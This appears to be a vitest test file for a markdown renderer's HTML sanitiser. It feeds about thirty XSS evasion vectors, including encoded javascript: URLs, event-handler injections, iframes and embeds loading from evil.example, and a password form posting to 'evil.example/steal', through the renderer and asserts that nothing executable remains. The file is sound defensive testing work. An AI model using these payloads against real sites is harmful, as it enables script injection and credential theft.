import { describe, expect, it } from 'vitest';
import { render } from '../../tests/support/render-markdown.ts';

/** Vectors from the OWASP XSS filter evasion cheat sheet and the ones the hostile-input issue lists. */
const VECTORS = [
  '<img src="x" onerror="alert(1)">',
  '<p onclick="alert(2)">Teksts</p>',
  '<a href="javascript:alert(3)">a</a>',
  '<a href="JaVaScRiPt:alert(4)">b</a>',
  '<a href="&#106;avascript:alert(5)">c</a>',
  '<a href="&#x6A;&#x61;vascript:alert(6)">d</a>',
  '<a href="java\tscript:alert(7)">e</a>',
  '<a href=" &#14; javascript:alert(8)">f</a>',
  '<a href="vbscript:msgbox(9)">g</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxMCk8L3NjcmlwdD4=">h</a>',
  '<iframe src="https://evil.example/"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example/steal"><input type="password" name="p"><button>Sūtīt</button></form>',
  '<svg><script>alert(11)</script></svg>',
  '<math><mtext><script>alert(12)</script></mtext></math>',
  '<img src="x" srcset="javascript:alert(13)">',
  '<div style="background:url(javascript:alert(14))">Stils</div>',
  '<a href="https://a.lv/" target="_blank" onmouseover="alert(15)">i</a>',
  '<details open ontoggle="alert(16)"><summary>S</summary>D</details>',
  '<body onload="alert(17)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(18)">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<template><script>alert(19)</script></template>',
  '<video poster="javascript:alert(20)"></video>',
  '<blockquote cite="javascript:alert(21)">Citāts</blockquote>',
  '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" alt="svg">',
];

describe('raw HTML through the allowlist', () => {
  it.each(VECTORS)('%s leaves nothing that runs, loads or sends', async (vector) => {
    const html = await render(`${vector}\n`);
    expect(html).not.toMatch(
      /<(?:script|iframe|object|embed|form|input|button|svg|math|meta|base|link|template|video|style)\b/i,
    );
    // Inside tags only: a tag the parser left as text ("&lt;body onload=…&gt;") does nothing.
    expect(html).not.toMatch(/<[^>]*\son[a-z]+=/i);
    expect(html).not.toMatch(
      /<[^>]*(?:href|src|srcset|cite|poster|action|data)="[^"]*(?:javascript|vbscript|data:text|data:image\/svg)/i,
    );
    expect(html).not.toMatch(/<[^>]*\s(?:style|target|srcset)=/i);
  });

  it('keeps what articles really use: tables, images, links, anchors, kbd, details, classes', async () => {
    const html = await render(
      '<table class="grid"><tr><th colspan="2">A</th></tr><tr><td>1</td><td><kbd>Ctrl</kbd>+<sup>2</sup><sub>3</sub></td></tr></table>\n\n' +
        '<p><a name="vieta"></a><a href="https://learn.microsoft.com/" title="Learn">Learn</a> <img src="https://a.lv/a.png" alt="A" width="20"><br><span class="x">s</span></p>\n\n' +
        '<details><summary>Vairāk</summary><div class="mx-tdBreakAll">D</div></details>\n',
    );
    expect(html).toContain('<th colspan="2" scope="row">A</th>');
    expect(html).toContain('<kbd>Ctrl</kbd>+<sup>2</sup><sub>3</sub>');
    expect(html).toContain('<a href="https://learn.microsoft.com/" title="Learn">Learn</a>');
    // An image from another site is a link to it: the page loads nothing from elsewhere.
    expect(html).toContain('<a href="https://a.lv/a.png">A</a>');
    expect(html).toContain('<span class="x">s</span>');
    expect(html).toContain('<details><summary>Vairāk</summary><div class="mx-tdBreakAll">D</div></details>');
    expect(html).toContain('<table class="grid" tabindex="0">');
  });

  it('keeps the words of unknown or obsolete elements, and nothing they could do', async () => {
    expect(await render('<center>Vārdi <b>treknraksts</b></center>\n')).toBe('Vārdi <b>treknraksts</b>\n');
    const nested = await render(
      '<center><script>alert(1)</script><b onclick="x()">B</b><font color="red">F</font></center>\n',
    );
    expect(nested).not.toMatch(/<script|onclick|color=/);
    expect(nested).toContain('<b>B</b>');
  });

  it('leaves markup in code as text', async () => {
    const html = await render('`<script>alert(1)</script>`\n\n```html\n<img src=x onerror=alert(1)>\n```\n');
    expect(html).toContain('<code>&lt;script&gt;alert(1)&lt;/script&gt;</code>');
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;');
  });
});
